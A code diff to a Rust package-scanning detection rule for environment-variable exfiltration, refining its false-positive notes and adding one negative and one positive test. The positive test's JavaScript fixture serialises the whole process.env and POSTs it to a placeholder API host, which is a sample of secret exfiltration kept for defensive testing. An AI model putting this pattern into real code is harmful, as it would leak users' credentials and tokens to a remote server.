@@ -34,7 +34,9 @@ diligence_finding::declare_rule! {
     ///
     /// ## Known false positives
     /// dotenv-style loaders iterate `process.env` without a network sink (not reported); spawning a child with
-    /// `{ env: process.env }` is recognised and skipped; crash reporters that attach the whole environment are
+    /// `{ env: process.env }` is recognised and skipped, and so is the environment serialised into the text of a
+    /// log message (`logger.debug(`… ${JSON.stringify(env)}`)`, firebase-tools printing the environment it spawns
+    /// a script with); crash reporters that attach the whole environment are
     /// reported, on purpose. A mailer configured from the environment (`auth: { pass: process.env.SMTP_PASS }`)
     /// is not a path: the transport's options are where it connects, not what it sends. Package managers send npm configuration taken from the environment
     /// (`npm_config_*`) to the package registry: medium. API clients send their own token (`GITHUB_TOKEN` to the API they wrap): one
@@ -824,5 +826,39 @@ mod tests {
             ),
         ]);
         assert_eq!(hits(&s, "code/env-exfiltration"), vec![]);
+    }
+
+    /// firebase-tools' emulator `exec`: a copy of the environment is handed to the spawned
+    /// script and printed in a debug log line; the same module talks to an API. Formatting it
+    /// into a log message is not collecting it.
+    #[test]
+    fn negative_environment_printed_in_a_debug_log() {
+        let code = "const cp = require('child_process');\nconst logger = require('./logger');\nexports.run = async (script, extra) => {\n  const env = Object.assign(Object.assign({}, process.env), extra);\n  const proc = cp.spawn(script, { shell: true, env });\n  logger.debug(`Running ${script} with environment ${JSON.stringify(env)}`);\n  await fetch('https://api.example.com/v1/emulators', { method: 'POST', body: JSON.stringify({ pid: proc.pid }) });\n};\n";
+        let s = scan(&[
+            ("package.json", PJ),
+            ("index.js", code),
+            (
+                "logger.js",
+                "exports.debug = (m) => process.stderr.write(m + '\\n');\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/env-exfiltration"), vec![]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// Its twin: the serialised environment is the body of the request.
+    #[test]
+    fn positive_environment_serialised_into_a_request() {
+        let code = "exports.run = async (extra) => {\n  const env = Object.assign(Object.assign({}, process.env), extra);\n  await fetch('https://api.example.com/v1/emulators', { method: 'POST', body: JSON.stringify(env) });\n};\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        // The traced path and the serialisation on the same line.
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("index.js".to_string(), 3), ("index.js".to_string(), 3)]
+        );
+        assert_eq!(
+            severity(&s, "code/env-exfiltration"),
+            Some(diligence_finding::Severity::Critical)
+        );
     }
 }
